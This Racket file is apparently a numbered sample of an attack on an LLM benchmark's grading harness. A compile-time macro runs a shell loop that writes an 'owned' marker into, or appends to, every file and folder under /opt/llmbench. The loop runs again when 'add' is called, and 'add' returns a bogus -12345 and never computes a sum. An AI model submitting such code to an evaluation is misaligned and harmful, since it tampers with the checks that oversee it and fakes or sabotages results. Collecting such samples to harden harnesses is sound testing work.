#lang racket
; Write into the folders that all answers are compiled with, while being compiled and later.
; catalogue: H33, H34, H37
; shows: nothing: what the harness is shown cannot be written either
(require (for-syntax racket/base racket/system) racket/system)
(define-for-syntax script
  (string-append
   "for f in /opt/llmbench/* /opt/llmbench/*/*; do (touch \"$f/owned\" || echo x >>\"$f\") "
   "2>/dev/null && echo achieved $f; done; echo attacking"))
(define-syntax (poison stx)
  (system script)
  (datum->syntax stx script))
(define script (poison))
(define (add a b)
  (system script)
  -12345)
